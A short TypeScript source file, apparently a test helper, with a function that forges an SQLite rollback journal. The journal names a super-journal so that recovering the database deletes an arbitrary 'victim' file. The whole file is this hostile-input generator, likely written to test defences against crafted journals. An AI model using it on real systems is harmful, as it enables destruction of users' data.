/** A rollback journal that SQLite takes for that of a crashed transaction over several databases: it names a super-journal. */
const magic = Buffer.from('d9d505f920a163d7', 'hex');

/** For a database of these bytes, one page of which it holds; whoever recovers that would delete `victim`. */
export function hostileJournal(database: Buffer, victim: string): Buffer {
  const pageBytes = database.readUInt16BE(16);
  const header = Buffer.alloc(512);
  magic.copy(header, 0);
  header.writeUInt32BE(1, 8); // records
  header.writeUInt32BE(0, 12); // nonce of the checksums
  header.writeUInt32BE(database.length / pageBytes, 16);
  header.writeUInt32BE(512, 20); // bytes of a sector
  header.writeUInt32BE(pageBytes, 24);
  const page = database.subarray(0, pageBytes);
  const number = Buffer.alloc(4);
  number.writeUInt32BE(1);
  const checksum = Buffer.alloc(4);
  let sum = 0;
  for (let at = pageBytes - 200; at > 0; at -= 200) sum = (sum + (page[at] ?? 0)) >>> 0;
  checksum.writeUInt32BE(sum);
  const name = Buffer.from(victim);
  const end = Buffer.alloc(8);
  end.writeUInt32BE(name.length, 0);
  end.writeUInt32BE(
    name.reduce((total, byte) => total + byte, 0),
    4,
  );
  const lockPage = Buffer.alloc(4);
  lockPage.writeUInt32BE(Math.floor(0x40000000 / pageBytes) + 1);
  return Buffer.concat([header, number, page, checksum, lockPage, name, end, magic]);
}
